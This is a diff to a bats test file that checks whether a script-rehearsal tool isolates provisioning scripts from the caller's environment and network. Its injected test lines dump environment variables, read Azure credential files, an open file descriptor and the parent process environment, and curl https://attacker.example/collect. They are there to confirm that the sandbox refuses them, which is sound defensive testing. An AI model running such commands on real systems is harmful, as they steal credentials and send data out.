@@ -53,20 +53,25 @@ with_line() {
   } >templates/bash/lib/preflight.sh
 }
 
-@test "a script sees nothing of the caller's: environment, home, az profile" {
+@test "a script sees nothing of the caller's: environment, home, az profile, open files" {
   plant_canaries
-  with_line "  { env; cat ~/.azure/* \"\$AZURE_CONFIG_DIR\"/* '$HOME'/.azure/* '$BATS_TEST_TMPDIR/folder/secret'; id -u; } 2>&1; exit 9"
+  export AZURE_CONFIG_DIR=$BATS_TEST_TMPDIR/profile-elsewhere
+  mkdir -p "$AZURE_CONFIG_DIR"
+  echo canary-7 >"$AZURE_CONFIG_DIR/token"
+  exec 9<"$AZURE_CONFIG_DIR/token"
+  with_line "  { env; cat ~/.azure/* '$HOME'/.azure/* '$AZURE_CONFIG_DIR'/* <&9; cat /dev/fd/9; tr '\\0' '\\n' </proc/\$PPID/environ; ls /proc/\$PPID/cwd/; } 2>&1; exit 9"
   run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --templates templates --json
+  exec 9<&-
   jq -r '.phases[] | select(.kind == "provision") | .output' <<<"$output" >printed
   grep -q '^HTTPS_PROXY=http://127.0.0.1:' printed
-  # the names of what it sees are few, and none is the caller's
   run -1 grep -F canary printed
+  # the names of what it sees are few, and none is the caller's
   [ "$(sed -n 's/^\([A-Za-z_]*\)=.*/\1/p' printed | grep -c -v -E '^(.*_?proxy|.*_PROXY|HOME|PATH|PWD|OLDPWD|SHLVL|_|LANG|LC_ALL|TMPDIR|MSYS_NO_PATHCONV|REQUESTS_CA_BUNDLE|CURL_CA_BUNDLE|SSL_CERT_FILE|NODE_EXTRA_CA_CERTS|NODE_USE_ENV_PROXY|AZURE_CONFIG_DIR|AZURE_CORE_[A-Z_]*|AZURE_DEVOPS_CACHE_DIR)$')" = 0 ]
   jq -e '.phases[-1].status == 9' <<<"$output"
 }
 
 @test "a script that calls another host is refused, named, and the rehearsal fails" {
-  with_line '  curl -sS https://attacker.example/collect; exit 9'
+  with_line '  curl -sS https://attacker.example/collect || true; exit 9'
   run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --templates templates --json
   jq -e '.good | not' <<<"$output"
   jq -e '.phases[-1].why == "it tried to reach attacker.example, which is not simulated; it ended with status 9"' <<<"$output"
